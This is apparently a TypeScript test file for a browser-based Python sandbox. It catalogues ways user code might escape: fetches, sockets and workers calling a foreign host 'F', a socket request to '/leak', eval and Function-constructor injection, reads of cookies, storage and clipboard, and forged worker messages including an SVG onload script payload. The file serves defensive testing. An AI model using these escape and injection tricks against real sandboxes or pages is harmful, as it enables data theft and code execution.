/*
 * What a reader's code may try: to reach the net, what is kept, and JavaScript as text. Each case is an
 * expression; `F` is the address of a foreign host, `O` of our own.
 */

/** Ways to the net and to code from text, in Python with Pyodide's `js`. All of them must be shut. */
const PYTHON_WAYS: Readonly<Record<string, string>> = {
  'fetch of a foreign address': 'js.fetch(F)',
  'fetch of an own address': 'js.fetch(O)',
  'fetch with a patched Set': 'patched_set()',
  'fetch of a Request': 'js.fetch(js.Request.new(F))',
  'the fetch below ours': 'below("fetch")(F)',
  'fetch of a data address': 'js.fetch("data:text/plain,x")',
  'fetch of a blob': 'below("fetch")(blob("x"))',
  'compileStreaming of a fetch': 'js.WebAssembly.compileStreaming(below("fetch")(F))',
  XMLHttpRequest: 'xhr(True)',
  'XMLHttpRequest that waits': 'xhr(False)',
  WebSocket: 'event(js.WebSocket.new(F.replace("http", "ws")), "open")',
  WebSocketStream: 'js.WebSocketStream.new(F.replace("http", "ws")).opened',
  EventSource: 'event(js.EventSource.new(F), "open")',
  WebTransport: 'js.WebTransport.new(F.replace("http:", "https:")).ready',
  FontFace: 'js.FontFace.new("x", f"url({F})").load()',
  'a FontFace that is used': 'used_font()',
  'importScripts of a foreign address': 'js.importScripts(F)',
  'importScripts of an own address': 'js.importScripts(O)',
  'importScripts of a blob': 'js.importScripts(blob("1"))',
  'importScripts of a data address': 'js.importScripts("data:text/javascript,1")',
  'eval of an import': 'js.eval(f"import(\'{F}\')")',
  'eval of a sum': 'js.eval("1+1")',
  run_js: 'run_js("1+1")',
  'Function.new': 'js.Function.new("return 1")()',
  'the constructor of fetch': 'js.fetch.constructor(f"return import(\'{F}\')")()',
  'the constructor of an async function':
    'js.Object.getPrototypeOf(below("fetch")).constructor("return 1")()',
  'the constructor of the constructor of self': 'js.self.constructor.constructor("return 1")()',
  'setTimeout of a text': 'timer(js.setTimeout)',
  'setInterval of a text': 'timer(js.setInterval)',
  'a worker of a foreign address': 'answered(js.Worker.new(F))',
  'a worker of an own address': 'answered(js.Worker.new(O))',
  'a worker of a data address': 'answered(js.Worker.new("data:text/javascript,postMessage(1)"))',
  'a worker that fetches': 'worker(f"fetch(\'{F}\').then(() => postMessage(1))")',
  'a worker that imports': 'worker(f"import(\'{F}\').then(() => postMessage(1))")',
  'a worker that is a module and imports': 'module(f"import \'{F}\'; postMessage(1)")',
  'a worker that imports scripts': 'worker(f"importScripts(\'{F}\'); postMessage(1)")',
  'a worker that opens a socket':
    "worker(f\"new WebSocket('{F}'.replace('http','ws')).onopen = () => postMessage(1)\")",
  'a worker that evaluates': 'worker("postMessage(eval(\'1+1\'))")',
  SharedWorker: 'js.SharedWorker.new(blob("1"))',
  sendBeacon: 'js.navigator.sendBeacon(F, "x")',
  'a service worker': 'js.navigator.serviceWorker.register(O)',
  RTCPeerConnection: 'js.RTCPeerConnection.new()',
  Image: 'js.Image.new()',
  'a picture in a picture': 'bitmap()',
  pyfetch: 'pyodide.http.pyfetch(F)',
  open_url: 'pyodide.http.open_url(F)',
  urllib: 'urllib.request.urlopen(F, timeout=2)',
  socket: 'spoken(socket.create_connection(("127.0.0.1", PORT), timeout=2))',
  'a package of a foreign address': 'loaded(F + "/x-1.0-py3-none-any.whl")',
  localStorage: 'js.localStorage.getItem("x")',
  sessionStorage: 'js.sessionStorage.getItem("x")',
  indexedDB: 'database()',
  'what the site keeps in caches': 'kept()',
  'the cookies': 'js.cookieStore.getAll()',
  'the document': 'js.document.cookie',
  'the page above': 'js.parent.document',
  'the page': 'js.window.top',
  'the private file system': 'js.navigator.storage.getDirectory()',
  'the room that is left': 'js.navigator.storage.persist()',
  'the old file system': 'js.webkitRequestFileSystemSync(0, 1)',
  'the locks': 'js.navigator.locks.request("x", create_proxy(lambda lock: None))',
  'the clipboard': 'js.navigator.clipboard.readText()',
  'a notification': 'js.Notification.requestPermission()',
  'a wake lock': 'js.navigator.wakeLock.request("screen")',
  'the place of the camera': 'js.navigator.mediaDevices.enumerateDevices()',
  'another address for the worker': 'moved()',
};

/** What the page must not believe, posted as the worker posts. */
const FORGED: readonly string[] = [
  'None',
  '5',
  '"done"',
  '[]',
  '{"type": "done", "id": ID, "ms": 1}',
  '{"type": "done", "id": ID, "ms": 1, "token": ""}',
  '{"type": "error", "id": ID, "text": 5}',
  '{"type": "error", "id": ID, "text": "forged", "fatal": True}',
  '{"type": "figure", "id": ID, "png": "no picture"}',
  '{"type": "figure", "id": ID, "svg": "<svg onload=alert(1)>"}',
  '{"type": "out", "id": ID, "stream": "stdout", "text": "forged"}',
  '{"type": "board", "parts": [{"part": "__proto__"}]}',
  '{"type": "ready", "ms": 1}',
  '{"broken": True}',
  '{"heard": {"type": "done", "id": ID, "ms": 1}}',
];

/** Python that tries them, one after the other, and prints those that were not shut. */
export const pythonTries = (foreign: string, own: string): string => `
import asyncio, socket, urllib.request
import js, pyodide.http, pyodide_js
from pyodide.code import run_js
from pyodide.ffi import create_proxy, to_js

F, O, PORT = ${JSON.stringify(foreign)}, ${JSON.stringify(own)}, ${new URL(foreign).port}
as_object = lambda value: to_js(value, dict_converter=js.Object.fromEntries)

def below(name):
    js.Reflect.deleteProperty(js.self, name)
    owner = js.self
    while owner is not None and not js.Object.hasOwn(owner, name):
        owner = js.Object.getPrototypeOf(owner)
    return getattr(owner, name).bind(js.self)

def blob(text, type="text/javascript"):
    return js.URL.createObjectURL(js.Blob.new(to_js([text]), as_object({"type": type})))

async def event(source, name):
    done = asyncio.get_running_loop().create_future()
    def settle(fine):
        if not done.done():
            done.set_result(1) if fine else done.set_exception(OSError("shut"))
    source.addEventListener(name, create_proxy(lambda *_: settle(True)))
    source.addEventListener("error", create_proxy(lambda e: (e.preventDefault(), settle(False))))
    return await done

def answered(made):
    return event(made, "message")

async def kept():
    # WebKitGTK gives such a worker a cache of its own, in which there is nothing; the page has kept Python in the site's.
    if not len(await js.caches.keys()):
        raise OSError("empty")

def worker(text):
    return answered(js.Worker.new(blob(text)))

def module(text):
    return answered(js.Worker.new(blob(text), as_object({"type": "module"})))

async def patched_set():
    kept = js.Set.prototype.has
    js.Set.prototype.has = create_proxy(lambda *_: True)
    try:
        await js.fetch(F)
    finally:
        # Pyodide asks sets itself: left so, each later way would meet a Python that no longer works.
        js.Set.prototype.has = kept

def xhr(waits):
    request = js.XMLHttpRequest.new()
    request.open("GET", F, waits)
    if not waits:
        return request.send()
    answer = event(request, "load")
    request.send()
    return answer

async def used_font():
    face = js.FontFace.new("y", f"url({F})")
    js.fonts.add(face)
    canvas = js.OffscreenCanvas.new(9, 9).getContext("2d")
    canvas.font = "9px y"
    canvas.fillText("x", 0, 9)
    await js.fonts.load("9px y")
    raise OSError("only drawn")

async def timer(start):
    js.self.opened = None
    start("self.opened = 1", 1)
    await asyncio.sleep(0.1)
    if js.self.opened is None:
        raise OSError("shut")

async def bitmap():
    picture = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="{F}" width="9" height="9"/></svg>'
    await js.createImageBitmap(js.Blob.new(to_js([picture]), as_object({"type": "image/svg+xml"})))

async def database():
    return await event(js.indexedDB.open("x"), "success")

def spoken(connection):
    connection.sendall(b"GET /leak HTTP/1.0\\r\\n\\r\\n")
    return connection.recv(1)

async def loaded(address):
    await pyodide_js.loadPackage(address)
    if "x" not in pyodide_js.loadedPackages.to_py():
        raise OSError("shut")

def moved():
    before = js.location.href
    js.location.href = F
    if js.location.href == before:
        raise OSError("shut")

async def tried(name, way):
    try:
        value = way()
        if hasattr(value, "__await__"):
            await asyncio.wait_for(asyncio.ensure_future(value), 1)
        print("OPEN:", name)
    except BaseException as error:
        pass

${Object.entries(PYTHON_WAYS)
  .map(([name, way]) => `await tried(${JSON.stringify(name)}, lambda: ${way})`)
  .join('\n')}
ID = 1
for ID in range(9):
${FORGED.map((message) => `    js.postMessage(as_object(${message}))`).join('\n')}
print("all tried")
`;

/** Ways of MicroPython that Python itself refuses. */
const MICROPYTHON_WAYS: readonly string[] = [
  'js.fetch(F)',
  'js.eval("1")',
  'js.Function("return 1")()',
  'js.globalThis',
  'js.self',
  'js.postMessage(1)',
  'jsffi.JsProxy',
  'jsffi.create_proxy(print)',
  'jsffi.to_js([1])',
  '__import__("network")',
  '__import__("socket")',
  '__import__("requests")',
  '__import__("urequests")',
  '__import__("usocket")',
  '__import__("ssl")',
  '__import__("bluetooth")',
  'open("http://127.0.0.1/")',
];

/** Ways to JavaScript as text: the browser refuses, and that breaks MicroPython, so each is tried alone. */
export const BOARD_TEXTS: readonly string[] = [
  '_board.now.constructor("return import(\\"" + F + "\\")")()',
  '_board.now.constructor("return fetch(\\"" + F + "\\")")()',
  '_board.now.constructor("return globalThis")()',
  '_board.now.constructor.constructor("return 1")()',
  '_board.rest.constructor("return 1")()',
  '_board.pin.constructor("postMessage(1)")()',
  '_board.i2c_scan.constructor("return 1")()',
  '_board.now.__proto__.constructor("return 1")()',
  '_board.constructor.constructor("return 1")()',
];

/** MicroPython that tries the first, and prints those that were not shut. */
export const boardTries = (foreign: string): string => `
import _board
try:
    import js
except ImportError:
    js = None
try:
    import jsffi
except ImportError:
    jsffi = None
F = ${JSON.stringify(foreign)}
for way in ${JSON.stringify(MICROPYTHON_WAYS)}:
    try:
        value = eval(way)
        print("OPEN:", way)
    except Exception as error:
        pass
print("all tried")
`;
